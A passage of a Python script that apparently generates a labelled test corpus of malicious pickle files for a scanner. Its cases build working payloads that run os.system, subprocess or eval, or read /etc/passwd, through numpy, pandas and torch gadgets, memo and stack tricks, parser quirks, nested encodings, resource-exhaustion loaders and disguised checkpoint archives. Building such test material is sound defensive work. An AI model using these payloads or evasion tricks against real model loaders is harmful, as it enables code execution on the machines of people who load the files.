# allowed library helpers that import or call what their arguments say
C = "gadget"
case("np_ufunc_reconstruct", p4(call(call(sg("numpy.core", "_ufunc_reconstruct"), su("os"), su("system")), su(CMD))), C, "numpy's _ufunc_reconstruct imports a module and takes a name by argument; here os.system")
case("np_ufunc_reconstruct_old", p2(call(call(glob("numpy.core", "_ufunc_reconstruct"), us("subprocess"), us("getoutput")), CMDU)), C, "the same in numpy 1, subprocess.getoutput")
case("np_ufunc_reconstruct_lookup", p4(call(sg("numpy.core", "_ufunc_reconstruct"), su("evil_module"), su("x"))), C, "it imports an unknown module", "unsafe")
case("np_generator_ctor", p4(call(sg("numpy.random._pickle", "__generator_ctor"), su(CMD), sg("os", "system"))), C, "numpy's __generator_ctor calls its second argument")
case("np_randomstate_ctor", p2(call(glob("numpy.random._pickle", "__randomstate_ctor"), CMDU, SYSTEM)), C, "numpy's __randomstate_ctor calls its second argument")
case("np_bit_generator_ctor_type", p4(call(sg("numpy.random._pickle", "__bit_generator_ctor"), sg("subprocess", "Popen"))), C, "numpy's __bit_generator_ctor calls a type")
case("np_dtype_string_object_scalar", p4(call(sg("numpy._core.multiarray", "scalar"), call(sg("numpy", "dtype"), su("O")), su(ATTACK0))), C, "an attack as the text of a numpy scalar of dtype object", "unsafe")
case("np_object_array_of_calls", p2(call(glob("numpy._core.multiarray", "_reconstruct"), glob("numpy", "ndarray"), k(0) + b"\x85", us("b")) + tup(k(1), k(1) + b"\x85", call(glob("numpy", "dtype"), us("O8"), b"I00\n", b"I01\n"), b"I00\n", b"]" + call(SYSTEM, CMDU) + b"a") + b"b"), C, "an object array whose state holds the call")
case("pd_new_index_bad_class", p4(call(sg("pandas.core.indexes.base", "_new_Index"), sg("subprocess", "Popen"), b"}")), C, "pandas' _new_Index makes any class")
case("pd_read_pickle_compat", p4(call(sg("pandas.compat.pickle_compat", "loads"), su("x"))), C, "pandas' pickle_compat.loads unpickles", "unsafe")
case("torch_rebuild_from_type", p2(call(glob("torch._tensor", "_rebuild_from_type_v2"), SYSTEM, glob("builtins", "object"), tup(CMDU), b"}")), C, "torch's _rebuild_from_type_v2 calls its first argument")
case("torch_rebuild_from_type_v1", p2(call(glob("torch._tensor", "_rebuild_from_type"), glob("builtins", "eval"), glob("builtins", "object"), tup(us("1+1")), b"}")), C, "torch's _rebuild_from_type calls its first argument")
case("torch_storage_nested", p4(call(sg("torch.storage", "_load_from_bytes"), by(torch_zip_early(ATTACK2)))), C, "a checkpoint inside _load_from_bytes holds the attack")
case("torch_persid_attack_type", p2(call(glob("torch._utils", "_rebuild_tensor_v2"), tup(us("storage"), SYSTEM, us("0"), us("cpu"), k(1)) + b"Q", k(0), b")", b")", b"\x89", call(glob("collections", "OrderedDict")))), C, "the storage type of a tensor is os.system")
case("torch_module_hooks", p2(glob("torch.nn.modules.linear", "Linear") + b")\x81}" + us("_forward_hooks") + b"}K\x00" + SYSTEM + b"ss" + b"b"), C, "os.system waits as a forward hook")
case("reconstructor_base_init", p2(call(glob("copy_reg", "_reconstructor"), glob("subprocess", "Popen"), glob("subprocess", "Popen"), CMDU)), C, "_reconstructor calls base.__init__ with its state")
case("sklearn_loss_callable", p4(sg("sklearn.linear_model._base", "LinearRegression") + b")\x81}" + su("fit") + call(sg("functools", "partial"), sg("os", "system"), su(CMD)) + b"sb"), C, "a partial of os.system replaces a method of an estimator")
case("getattr_of_allowed_class", p2(call(glob("builtins", "getattr"), glob("zoneinfo", "ZoneInfo"), us("__init__"))), C, "getattr on an allowed class takes another name", "unsafe")
case("getattr_no_cache_from_file", p2(call(call(glob("builtins", "getattr"), glob("zoneinfo", "ZoneInfo"), us("from_file")), call(glob("builtins", "open"), us("/etc/passwd")))), C, "open, through an allowed class")
case("type_one_argument_chain", p2(call(call(glob("builtins", "type"), call(glob("builtins", "type"), b"N")), us("X"), b")", b"}")), C, "type(type(None)) is type: a class is made", "unsafe")
case("iter_builtin_state", p2(call(glob("builtins", "iter"), SYSTEM, b"N")), C, "iter(os.system, None) calls it when iterated")
case("enum_call", p2(call(glob("enum", "Enum"), us("X"), us("a b"))), C, "the functional form of Enum makes a class", "unsafe")
case("namedtuple_make", p2(call(glob("collections", "namedtuple"), us("X"), us("a b"))), C, "namedtuple compiles code", "unsafe")

# ---- 7. memo games --------------------------------------------------------------------------------------------
C = "memo"
case("memo_overwrite", p2(us("json") + b"q\x000" + us("os") + b"q\x000" + b"h\x00" + us("system") + b"\x93" + tup(CMDU) + b"R"), C, "PUT 0 twice: the second name counts")
case("memo_overwrite_function", p2(glob("builtins", "print") + b"q\x000" + SYSTEM + b"q\x000h\x00" + tup(CMDU) + b"R"), C, "a harmless function is overwritten in the memo")
case("memo_sparse_binput", p2(SYSTEM + b"q\xff0h\xff" + tup(CMDU) + b"R"), C, "BINPUT 255 without the ones before")
case("memo_sparse_long", p2(SYSTEM + b"r" + le4(1000000) + b"0j" + le4(1000000) + tup(CMDU) + b"R"), C, "LONG_BINPUT a million")
case("memo_sparse_text", b"cos\nsystem\np9999\n0g9999\n(" + s0(CMD) + b"tR.", C, "PUT 9999")
case("memo_text_underscore", b"cos\nsystem\np1_0\n0g10\n(" + s0(CMD) + b"tR.", C, "PUT 1_0, which int() takes as 10")
case("memo_text_zeros", b"cos\nsystem\np007\n0g7\n(" + s0(CMD) + b"tR.", C, "PUT 007")
case("memo_text_blank", b"cos\nsystem\np 3\n0g+3\n(" + s0(CMD) + b"tR.", C, "PUT ' 3', GET '+3'")
case("memoize_after_sparse", proto(4) + su("x") + b"q\x050" + su("os") + b"\x940" + b"h\x01" + su("system") + b"\x93" + tup(su(CMD)) + b"R.", C, "MEMOIZE after a sparse PUT goes to number 1")
case("memoize_overwrites_put", proto(4) + su("y") + b"q\x010" + su("os") + b"\x940h\x01" + su("system") + b"\x93" + tup(su(CMD)) + b"R.", C, "MEMOIZE overwrites what PUT 1 stored")
case("memoize_low_proto", proto(2) + us("os") + b"\x940" + us("system") + b"\x940h\x00h\x01\x93" + tup(CMDU) + b"R.", C, "MEMOIZE and STACK_GLOBAL at protocol 2")
case("memo_names_far", p4(su("os") + b"\x940" + su("system") + b"\x940" + b"N0" * 300 + b"h\x00h\x01\x93" + tup(su(CMD)) + b"R"), C, "names fetched from the memo far away")
case("memo_names_in_tuple", p4(tup(su("os") + b"\x94", su("system") + b"\x94") + b"0h\x00h\x01\x93" + tup(su(CMD)) + b"R"), C, "names that first occur as data in a dropped tuple")
case("memo_names_swapped", p4(su("system") + b"\x94" + su("os") + b"\x9400h\x01h\x00\x93" + tup(su(CMD)) + b"R"), C, "names fetched in the other order")
case("memo_mutable_alias", p2(b"]q\x00" + SYSTEM + b"a0h\x000" + glob("builtins", "list") + b"q\x010" + call(glob("functools", "reduce"), glob("builtins", "getattr"), b"h\x00")), C, "the list in the memo holds the function")
case("memo_args_fetched", p2(tup(CMDU) + b"q\x000" + SYSTEM + b"h\x00R"), C, "the arguments come from the memo")
case("memo_of_mark", p2(b"(" + us("a") + b"q\x00" + b"1" + SYSTEM + b"h\x00\x85R"), C, "memo of a value that POP_MARK dropped")
case("memo_text_and_binary_mixed", b"cos\nsystem\nq\x000g0\n(" + s0(CMD) + b"tR.", C, "BINPUT, then text GET")

# ---- 8. stack games -------------------------------------------------------------------------------------------
C = "stack"
case("pop_result", p2(call(SYSTEM, CMDU) + b"0N"), C, "the result of the call is dropped")
case("pop_result_then_benign", p2(call(SYSTEM, CMDU) + b"0}" + us("a") + b"K\x01s"), C, "dropped, then ordinary data")
case("pop_mark_result", p2(b"(" + call(SYSTEM, CMDU) + b"1N"), C, "dropped by POP_MARK")
case("pop_mark_by_pop", b"(" + call(SYSTEM, CMDU) + b"00N.", C, "POP drops the result, then the MARK")
case("below_top", p2(call(SYSTEM, CMDU) + b"K\x01"), C, "the result stays below the value that STOP takes", "dangerous")
case("below_mark", p2(call(SYSTEM, CMDU) + b"(K\x01"), C, "a MARK is left open over it")
case("dup_function", p2(SYSTEM + b"2" + tup(CMDU) + b"R"), C, "DUP of the function, the copy is called")
case("dup_name", p4(su("os") + b"2" + b"0" + su("system") + b"\x93" + tup(su(CMD)) + b"R"), C, "DUP and POP of the module name")
case("dup_args", p2(SYSTEM + CMDU + b"\x852" + b"0R"), C, "DUP of the arguments")
case("marks_nested", p2(b"(((" + CMDU + b"t1" + b"1" + SYSTEM + b"(" + CMDU + b"tR"), C, "marks opened and dropped")
case("list_of_calls", p2(b"(" + call(SYSTEM, CMDU) + b"l"), C, "LIST of a call")
case("dict_of_calls", p2(b"(" + us("k") + call(SYSTEM, CMDU) + b"d"), C, "DICT of a call")
case("tuple_args_by_mark_before_function", p2(b"(" + SYSTEM + CMDU + b"o"), C, "OBJ: function and argument between marks")
case("stop_with_rest", p2(b"N" + SYSTEM + CMDU + b"\x85R"), C, "two values on the stack at STOP")
case("appends_on_call_result", p2(call(glob("builtins", "__import__"), us("os")) + b"(" + CMDU + b"e"), C, "APPENDS on an imported module")

# ---- 9. lookups without a call, persistent ids, extension codes -------------------------------------------------------
C = "lookup"
case("lookup_global", p2(SYSTEM), C, "os.system is looked up, nothing is called")
case("lookup_stack_global", p4(sg("os", "system")), C, "the same by STACK_GLOBAL")
case("lookup_eval_in_list", p2(b"]" + glob("builtins", "eval") + b"a"), C, "eval as data")
case("lookup_unknown_module", p2(glob("evil_package.payload", "x")), C, "importing an unknown module runs its code", "unsafe")
case("lookup_antigravity", p2(glob("antigravity", "fly")), C, "an import with an effect", "unsafe")
case("lookup_this", p2(glob("this", "s")), C, "an import with an effect", "unsafe")
case("lookup_popped", p2(glob("evil_package.payload", "x") + b"0N"), C, "the import is dropped", "unsafe")
case("lookup_main", p2(glob("__main__", "run")), C, "a name of the loading program", "unsafe")
case("lookup_module_path_trick", p2(glob("numpy.os", "system")), C, "module numpy.os", "unsafe")
case("lookup_relative", p2(glob(".evil", "x")), C, "a relative module name", "unsafe")
case("lookup_case", p2(call(glob("OS", "system"), CMDU)), C, "module name in capitals (a file system may not care)", "unsafe")
case("lookup_trailing_blank", p2(call(glob("os ", "system"), CMDU)), C, "a blank after the module name", "unsafe")
case("lookup_unicode_lookalike", p4(call(sg("\uff4f\uff53", "system"), su(CMD))), C, "full-width letters in the module name", "unsafe")
case("lookup_nul_in_name", p2(call(glob("os\x00x", "system"), CMDU)), C, "NUL in the module name", "unsafe")
case("lookup_allowed_module_unknown_name", p4(call(sg("collections", "evil"), su("x"))), C, "an allowed module, an unknown name", "unsafe")
case("lookup_typo", p4(call(sg("numpyy", "array"), su("x"))), C, "a module that is nearly numpy", "unsafe")
case("ext_after_add", p2(call(glob("copyreg", "add_extension"), us("os"), us("system"), k(7)) + b"0" + b"\x82\x07" + tup(CMDU) + b"R"), C, "add_extension, then EXT1")
case("ext2_after_add", p2(call(glob("copy_reg", "add_extension"), us("os"), us("system"), b"M\x00\x02") + b"0" + b"\x83\x00\x02" + tup(CMDU) + b"R"), C, "the same with EXT2 and Python 2's module name")
case("ext4_after_registry", p2(glob("copyreg", "_inverted_registry") + b"J\x00\x00\x02\x00" + tup(us("os"), us("system")) + b"s0\x84\x00\x00\x02\x00" + tup(CMDU) + b"R"), C, "SETITEM into the registry, then EXT4")
case("ext_unknown", p2(b"\x82\x63" + tup(CMDU) + b"R"), C, "an extension code nobody knows is called", "unsafe")
case("ext_unknown_lookup", p2(b"\x84" + struct.pack("<i", 70000)), C, "an extension code nobody knows", "unsafe")
case("ext_zero", p2(b"\x82\x00"), C, "extension code 0 is malformed", "unsafe")
case("persid_text", b"P" + CMD + b"\n.", C, "a persistent id; the loader decides", "unsafe")
case("persid_called", p2(us("x") + b"Q" + tup(CMDU) + b"R"), C, "what a persistent id gives is called", "unsafe")
case("persid_with_global", p2(tup(us("storage"), SYSTEM, us("0"), us("cpu"), k(1)) + b"Q"), C, "a persistent id that holds os.system")
case("buffer_called", proto(5) + b"\x97" + tup(su("x")) + b"R.", C, "an out-of-band buffer is called", "unsafe")

# ---- 10. several pickles, junk, truncation ---------------------------------------------------------------------------
C = "stream"
case("second_pickle", BENIGN + ATTACK4, C, "a harmless pickle, then an attack")
case("second_pickle_p0", p2(b"N") + ATTACK0, C, "the same at protocol 0, which has no header")
case("third_pickle", BENIGN * 2 + ATTACK2, C, "the third pickle")
case("hundredth_pickle", b"N." * 99 + ATTACK0, C, "the hundredth pickle")
case("junk_between", BENIGN + b"\x00\xff junk \n" + ATTACK4, C, "junk between the pickles")
case("zeros_between", BENIGN + b"\x00" * 4096 + ATTACK4, C, "a page of zeros between")
case("text_between", BENIGN + b"# see below\n" + ATTACK0, C, "a comment between")
case("junk_before", b"JUNKJUNK" + ATTACK4, C, "eight bytes before the pickle (a loader may skip a header)")
case("junk_before_text", b"#!/usr/bin/env python\n" + ATTACK2, C, "a line before the pickle")
case("magic_before", b"MODEL\x00\x01\x00" + le8(len(ATTACK4)) + ATTACK4, C, "a header with a length before the pickle")
case("attack_then_junk", ATTACK4 + b"\xff" * 100, C, "junk after the attack")
case("no_stop", ATTACK2[:-1], C, "no STOP: all has run before the reader notices")
case("no_stop_frame", ATTACK4[:-1], C, "a frame that promises one byte more")
case("truncated_string_after", proto(2) + call(SYSTEM, CMDU) + b"X" + le4(100) + b"abc", C, "truncated after the call")
case("unknown_opcode_after", proto(2) + call(SYSTEM, CMDU) + b"\xfe.", C, "an unknown opcode after the call")
case("underflow_after", proto(2) + call(SYSTEM, CMDU) + b"00000.", C, "stack underflow after the call")
case("bad_memo_after", proto(2) + call(SYSTEM, CMDU) + b"h\x63.", C, "a missing memo entry after the call")
case("bad_utf8_after", proto(2) + call(SYSTEM, CMDU) + b"X" + le4(2) + b"\xff\xfe.", C, "broken UTF-8 after the call")
case("bad_int_after", call(SYSTEM, CMDU) + b"Ix\n.", C, "a bad number after the call")
case("bad_proto_after", proto(2) + call(SYSTEM, CMDU) + proto(99) + b".", C, "PROTO 99 after the call")
case("huge_length_after", proto(4) + call(sg("os", "system"), su(CMD)) + b"\x8e" + le8(1 << 60) + b".", C, "a huge length after the call")
case("broken_before", proto(2) + b"h\x63" + call(SYSTEM, CMDU) + b".", C, "an error before the call (a lenient reader goes on)", "unsafe")
case("empty_reduce_underflow", b"R.", C, "REDUCE on an empty stack", "unsafe")
case("truncated_only", proto(4) + b"\x95" + le8(100) + b"\x8c", C, "truncated, nothing seen yet", "unsafe")
case("not_a_pickle", b"hello, this is no pickle at all", C, "not a pickle: not thereby clean", "unsafe")
case("empty_file", b"", C, "an empty file", "unsafe")
case("proto_9", b"\x80\x09N.", C, "a protocol nobody knows", "unsafe")
case("attack_in_large_padding", BENIGN + b"\x00" * 200_000 + ATTACK2, C, "an attack after 200 kB of zeros")
case("bom_before", b"\xef\xbb\xbf" + ATTACK0, C, "a byte order mark before")

# ---- 11. desynchronising readers ---------------------------------------------------------------------------------------
C = "desync"
case("int_octal_look", b"I010\n0" + ATTACK0, C, "I010: readers disagree on the number")
case("int_underscore", b"I1_0\n0" + ATTACK0, C, "I1_0")
case("int_hex", b"I0x10\n0" + ATTACK0, C, "I0x10: some readers refuse")
case("int_blank", b"I 1 \n0" + ATTACK0, C, "blanks around a number")
case("int_nul", b"I1\x00\n0" + ATTACK0, C, "NUL in a number")
case("int_l", b"I1L\n0" + ATTACK0, C, "an L after an INT")
case("long_double_l", b"L1LL\n0" + ATTACK0, C, "two Ls after a LONG", "unsafe")
case("long_no_l", b"L1\n0" + ATTACK0, C, "no L after a LONG")
case("long_empty", b"L\n0" + ATTACK0, C, "an empty LONG", "unsafe")
case("float_underscore", b"F1_0.5\n0" + ATTACK0, C, "F1_0.5: C refuses or accepts by version")
case("float_hex", b"F0x1p3\n0" + ATTACK0, C, "a hexadecimal float", "unsafe")
case("float_junk", b"F1.5abc\n0" + ATTACK0, C, "text after a float", "unsafe")
case("float_nan_blank", b"F nan\n0" + ATTACK0, C, "a blank before nan")
case("string_trailing_blank", b"S'x' \n0" + ATTACK0, C, "a blank after the quote")
case("string_no_quotes", b"Sx\n0" + ATTACK0, C, "no quotes", "unsafe")
case("string_mixed_quotes", b"S'x\"\n0" + ATTACK0, C, "different quotes", "unsafe")
case("string_bad_escape", b"S'\\xzz'\n0" + ATTACK0, C, "a bad escape", "unsafe")
case("string_octal_escape", b"S'\\157s'\nS'system'\n\x93(" + s0(CMD) + b"tR.", C, "octal escapes spell the module name")
case("string_quote_inside", b"S'a'b'\n0" + ATTACK0, C, "a quote inside")
case("string_nonascii", b"S'\xff'\n0" + ATTACK0, C, "a byte that ASCII cannot decode stops Python 3 by default, not with another encoding")
case("unicode_bad_escape", b"V\\u00\n0" + ATTACK0, C, "a bad raw-unicode escape", "unsafe")
case("unicode_cr", b"Va\rb\n0" + ATTACK0, C, "a carriage return in UNICODE")
case("global_crlf", b"cos\r\nsystem\r\n(" + s0(CMD) + b"tR.", C, "CR LF after the names (text mode)", "unsafe")
case("global_nonascii", b"c\xc3\xa9\nx\n0" + ATTACK0, C, "non-ASCII names, which pickletools refuses")
case("global_invalid_utf8", b"c\xff\nx\n0" + ATTACK0, C, "invalid UTF-8 in a name", "unsafe")
case("global_with_space", b"cos system\nx\n0" + ATTACK0, C, "a blank in a module name: tools that print `module name` mislead")
case("global_newline_stack", p4(call(sg("os\nsystem", "x"), su(CMD))), C, "a newline in a name", "unsafe")
case("frame_too_long", proto(4) + b"\x95" + le8(1000) + call(sg("os", "system"), su(CMD)) + b".", C, "a frame longer than the data: Python's pure machine may go on")
case("frame_too_short", proto(4) + b"\x95" + le8(3) + call(sg("os", "system"), su(CMD)) + b".", C, "a frame that ends inside an opcode: C goes on")
case("frame_zero", proto(4) + b"\x95" + le8(0) + call(sg("os", "system"), su(CMD)) + b".", C, "an empty frame")
case("frame_nested", proto(4) + frame(frame(call(sg("os", "system"), su(CMD)) + b".")), C, "a frame in a frame")
case("frame_cut_hides", proto(4) + frame(b"N.") + ATTACK4, C, "a frame with STOP, then more")
case("frame_stop_inside", proto(4) + b"\x95" + le8(2 + len(ATTACK0)) + b"N." + ATTACK0, C, "the frame goes on after STOP")
case("frame_low_proto", proto(2) + frame(call(SYSTEM, CMDU) + b"."), C, "FRAME at protocol 2")
case("frame_straddles_string", proto(4) + b"\x95" + le8(4) + su("abcdef") + b"0" + call(sg("os", "system"), su(CMD)) + b".", C, "a string crosses the end of its frame")
case("binstring_negative", b"T\xff\xff\xff\xff0" + ATTACK0, C, "BINSTRING of a negative length", "unsafe")
case("long1_padded", p2(b"\x8a\x05\x01\x00\x00\x00\x000" + call(SYSTEM, CMDU)), C, "a LONG1 longer than needed")
case("long4_negative", p2(b"\x8b\xff\xff\xff\xff0" + call(SYSTEM, CMDU)), C, "LONG4 of a negative length", "unsafe")
case("binput_wrong_size", p2(b"N" + b"r" + le4(0) + b"0" + call(SYSTEM, CMDU)), C, "LONG_BINPUT of a small number")
case("proto_0", b"\x80\x00" + ATTACK0, C, "PROTO 0")
case("proto_twice", proto(2) * 5 + call(SYSTEM, CMDU) + b".", C, "PROTO five times")
case("put_negative", b"Np-1\n0" + ATTACK0, C, "PUT -1: some readers refuse", "unsafe")
case("put_huge", b"Np99999999999999999999\n0" + ATTACK0, C, "a PUT too large for C", "unsafe")
case("get_missing_c_only", b"(1" + ATTACK0, C, "POP_MARK of an empty mark")
case("pop_on_empty", b"(0" + ATTACK0, C, "POP takes a MARK")
case("persid_nonascii", b"P\xff\n0" + ATTACK0, C, "a persistent id that is not ASCII", "unsafe")
case("bool_as_int", b"I00\nI01\n00" + ATTACK0, C, "booleans of protocol 0 before")
case("utf8_surrogate", p2(us("\ud800") + b"0" + call(SYSTEM, CMDU)), C, "a lone surrogate before, which strict tools refuse")
case("utf8_overlong", p2(b"X" + le4(2) + b"\xc0\x80" + b"0" + call(SYSTEM, CMDU)), C, "an overlong NUL", "unsafe")
case("odd_setitems", p2(call(SYSTEM, CMDU) + b"0}(K\x01K\x02K\x03u"), C, "an odd number of items after the call")
case("readonly_buffer_on_int", proto(5) + b"K\x01\x980" + call(sg("os", "system"), su(CMD)) + b".", C, "READONLY_BUFFER on a number", "unsafe")
case("next_buffer_missing", proto(5) + b"\x970" + call(sg("os", "system"), su(CMD)) + b".", C, "a buffer nobody gave, then the call")
case("unhashable_key", p2(call(SYSTEM, CMDU) + b"0}]Ns"), C, "an unhashable key after the call")

# ---- 12. pickles in pickles --------------------------------------------------------------------------------------------
C = "nested"
case("loads_bytes", proto(3) + call(glob("pickle", "loads"), by(ATTACK2)) + b".", C, "pickle.loads of an attack")
case("loads_c", proto(3) + call(glob("_pickle", "loads"), by(ATTACK2)) + b".", C, "_pickle.loads")
case("loads_encode_p0", call(glob("pickle", "loads"), call(glob("_codecs", "encode"), u0(ATTACK0.replace(b"\n", b"\\u000a")), u0("latin1"))) + b".", C, "pickle.loads of _codecs.encode text, protocol 0")
case("data_bytes", proto(3) + b"}" + us("model") + by(ATTACK2) + b"s.", C, "an attack as bytes, loaded by nobody here", "unsafe")
case("data_text", p2(b"}" + us("model") + us(ATTACK0) + b"s"), C, "an attack as text", "unsafe")
case("data_base64", p2(b"}" + us("model") + us(base64.b64encode(ATTACK4)) + b"s"), C, "an attack as base64 text", "unsafe")
case("data_base64_lines", p2(us(base64.encodebytes(ATTACK4 + b"#" * 100))), C, "base64 in lines", "unsafe")
case("data_base64_urlsafe", p2(us(base64.urlsafe_b64encode(ATTACK4))), C, "URL-safe base64", "unsafe")
case("data_hex", p2(b"}" + us("model") + us(binascii.hexlify(ATTACK4)) + b"s"), C, "an attack as hexadecimal text", "unsafe")
case("data_hex_bytes", proto(3) + by(binascii.hexlify(ATTACK2).upper()) + b".", C, "hexadecimal in bytes", "unsafe")
case("data_bytearray", proto(5) + b"\x96" + le8(len(ATTACK4)) + ATTACK4 + b".", C, "an attack in a bytearray", "unsafe")
case("data_gzip", proto(3) + by(gzip.compress(ATTACK4, mtime=0)) + b".", C, "an attack gzipped in bytes", "unsafe")
case("data_zlib_base64", p2(us(base64.b64encode(zlib.compress(ATTACK4)))), C, "zlib in base64", "unsafe")
def nest(n):
    d = ATTACK2
    for _ in range(n): d = proto(3) + by(d) + b"."
    return d
case("data_nested_2", nest(2), C, "a pickle in a pickle in a pickle", "unsafe")
case("data_nested_3", nest(3), C, "three levels", "unsafe")
case("data_base64_twice", p2(us(base64.b64encode(p2(us(base64.b64encode(ATTACK4)))))), C, "base64 in a pickle in base64", "unsafe")
case("data_split_binstring", p2(b"](" + sb(ATTACK0[:20]) + sb(ATTACK0[20:]) + b"e" + call(glob("builtins", "eval"), us("1"))), C, "an attack in two strings and an eval")
case("data_after_header", proto(3) + by(b"HEADER--" + ATTACK4) + b".", C, "bytes with a header before the nested pickle", "unsafe")
case("base64_decode_loads", p2(call(glob("pickle", "loads"), call(glob("base64", "b64decode"), us(base64.b64encode(ATTACK4))))), C, "pickle.loads(base64.b64decode(...))")
case("zlib_loads", proto(3) + call(glob("pickle", "loads"), call(glob("zlib", "decompress"), by(zlib.compress(ATTACK4)))) + b".", C, "pickle.loads(zlib.decompress(...))")
case("bytesio_load", proto(3) + call(glob("pickle", "load"), call(glob("io", "BytesIO"), by(ATTACK4))) + b".", C, "pickle.load(BytesIO(...))")
case("unpickler_load", proto(4) + call(call(sg("builtins", "getattr"), call(sg("pickle", "Unpickler"), call(sg("io", "BytesIO"), by(ATTACK4))), su("load"))) + b".", C, "pickle.Unpickler(BytesIO(...)).load()")
case("torch_load_from_bytes", proto(3) + call(glob("torch.storage", "_load_from_bytes"), by(ATTACK4)) + b".", C, "torch.storage._load_from_bytes unpickles its argument")
case("multiprocessing_loads", proto(3) + call(glob("multiprocessing.reduction", "ForkingPickler.loads"), by(ATTACK4)) + b".", C, "multiprocessing's loads")
case("logging_pickle", proto(4) + call(sg("logging.handlers", "pickle.loads"), by(ATTACK4)) + b".", C, "pickle.loads through another module")
case("xmlrpc_marshal", proto(3) + call(glob("xmlrpc.client", "loads"), by(b"x")) + b".", C, "another decoder", "unsafe")

# ---- 13. exhausting the loader -------------------------------------------------------------------------------------------
C = "exhaustion"
case("range_list", p2(call(glob("builtins", "list"), call(glob("builtins", "range"), b"\x8a\x06\x00\x00\x00\x00\x00\x01"))), C, "a list of a trillion numbers", "unsafe")
case("bytearray_size", p2(call(glob("builtins", "bytearray"), b"\x8a\x06\x00\x00\x00\x00\x00\x01")), C, "a terabyte of zeros", "unsafe")
case("bytes_size", proto(3) + call(glob("builtins", "bytes"), b"\x8a\x06\x00\x00\x00\x00\x00\x01") + b".", C, "a terabyte of zeros", "unsafe")
case("repeat_list", p2(call(glob("builtins", "list"), call(glob("itertools", "repeat"), b"N"))), C, "a list without end", "unsafe")
case("count_set", p2(call(glob("builtins", "set"), call(glob("itertools", "count")))), C, "a set without end", "unsafe")
case("pow", p2(call(glob("builtins", "pow"), k(9), b"\x8a\x05\x00\x00\x00\x00\x01")), C, "a number without end", "unsafe")
case("operator_mul", p2(call(glob("operator", "mul"), us("x"), b"\x8a\x06\x00\x00\x00\x00\x00\x01")), C, "a text of a terabyte", "unsafe")
case("sleep", p2(call(glob("time", "sleep"), b"M\xff\xff")), C, "sleeps for hours", "unsafe")
case("regex_dos", p2(call(glob("re", "match"), us("(a+)+$"), us("a" * 40 + "b"))), C, "a regular expression that does not end", "unsafe")
case("numpy_zeros", p2(call(glob("numpy", "zeros"), b"\x8a\x06\x00\x00\x00\x00\x00\x01")), C, "a huge array", "unsafe")
case("laughs", p2(b"]q\x00" + b"".join(b"](h" + bytes([i]) + b"h" + bytes([i]) + b"eq" + bytes([i + 1]) for i in range(60)) + call(SYSTEM, CMDU)), C, "2**60 lists by sharing, then the attack")
case("memo_huge", b"Nr\xff\xff\xff\xff0" + ATTACK0, C, "a memo number that makes CPython reserve gigabytes, then the attack")
case("nest_deep_then_attack", b"]" * 100000 + ATTACK0[:-1] + b"a" * 100000 + b".", C, "100 000 nested lists around the attack")
case("digits", b"L" + b"7" * 100000 + b"L\n0" + ATTACK0, C, "a number of 100 000 digits, then the attack")

# ---- 14. files around pickles ---------------------------------------------------------------------------------------------
C = "container"
case("gzip", gzip.compress(ATTACK4, mtime=0), C, "gzip", ext="pkl.gz")
case("gzip_wrong_extension", gzip.compress(ATTACK2, mtime=0), C, "gzip called .pkl")
case("gzip_twice", gzip.compress(gzip.compress(ATTACK4, mtime=0), mtime=0), C, "gzip in gzip", ext="gz")
case("gzip_two_members", gzip.compress(BENIGN, mtime=0) + gzip.compress(ATTACK4, mtime=0), C, "the second gzip member", ext="gz")
case("gzip_truncated", gzip.compress(ATTACK4 + os.urandom(0) + bytes(range(256)) * 20, mtime=0)[:-12], C, "truncated gzip", ext="gz")
case("gzip_bad_crc", (lambda z: z[:-8] + b"\0\0\0\0" + z[-4:])(gzip.compress(ATTACK4, mtime=0)), C, "gzip with a wrong checksum", ext="gz")
case("zlib_stream", zlib.compress(ATTACK4), C, "zlib (joblib's .z)", ext="pkl.z")
case("bz2", bz2.compress(ATTACK4), C, "bzip2", ext="bz2")
case("xz", lzma.compress(ATTACK4), C, "xz", ext="xz")
case("lzma_alone", lzma.compress(ATTACK4, format=lzma.FORMAT_ALONE), C, "the old lzma form", ext="lzma")
def zstd_raw(d): return b"\x28\xb5\x2f\xfd" + b"\xa0" + le4(len(d)) + struct.pack("<I", len(d) << 3 | 1)[:3] + d
case("zstd", zstd_raw(ATTACK4), C, "zstd (one raw block)", ext="zst")
def make_zip(members, **kw):
    f = io.BytesIO()
    with zipfile.ZipFile(f, "w", kw.get("compression", zipfile.ZIP_STORED)) as z:
        for n, d in members: z.writestr(zipfile.ZipInfo(n, (1980, 1, 1, 0, 0, 0)), d, kw.get("compression", zipfile.ZIP_STORED))
    return f.getvalue()
def torch_zip(data, name="archive/data.pkl", **kw): return make_zip([(name, data), ("archive/byteorder", b"little"), ("archive/data/0", b"\0" * 16), ("archive/version", b"3\n")], **kw)
case("torch_zip", torch_zip(ATTACK2), C, "a PyTorch checkpoint", ext="pt")
case("torch_zip_pth", torch_zip(ATTACK2), C, "the same as .pth", ext="pth")
case("torch_zip_bin", torch_zip(ATTACK2), C, "the same as .bin", ext="bin")
case("torch_zip_deflated", torch_zip(ATTACK2, compression=zipfile.ZIP_DEFLATED), C, "deflated", ext="pt")
case("torch_zip_other_member", make_zip([("archive/data.pkl", BENIGN), ("archive/extra/other.dat", ATTACK2), ("archive/version", b"3\n")]), C, "the attack in a member of another name", ext="pt")
case("torch_zip_second_pickle", torch_zip(BENIGN + ATTACK2), C, "the attack after the first pickle of data.pkl", ext="pt")
case("torch_zip_constants", make_zip([("m/data.pkl", BENIGN), ("m/constants.pkl", ATTACK2), ("m/version", b"3\n")]), C, "constants.pkl", ext="pt")
case("torch_zip_case", torch_zip(ATTACK2, name="archive/DATA.PKL"), C, "the member's name in capitals", ext="pt")
case("torch_zip_as_txt", torch_zip(ATTACK2), C, "the checkpoint called .txt", ext="txt")
case("torch_zip_junk_before", b"\x80\x02N." + torch_zip(ATTACK2), C, "a small pickle before the zip", ext="pt")
case("torch_zip_duplicate", make_zip([("archive/data.pkl", BENIGN)]) if False else (lambda: (__import__("warnings").simplefilter("ignore"), make_zip([("archive/data.pkl", BENIGN), ("archive/data.pkl", ATTACK2)]))[1])(), C, "two members of one name", ext="pt")
def edit(z, pairs):
    for a, b in pairs: assert a in z, a; z = z.replace(a, b, 1)
    return z
Z = torch_zip(ATTACK2)
crc = struct.pack("<I", zlib.crc32(ATTACK2))
case("torch_zip_bad_crc", Z.replace(crc, b"\xde\xad\xbe\xef"), C, "a wrong CRC: zipfile refuses, PyTorch reads", ext="pt")
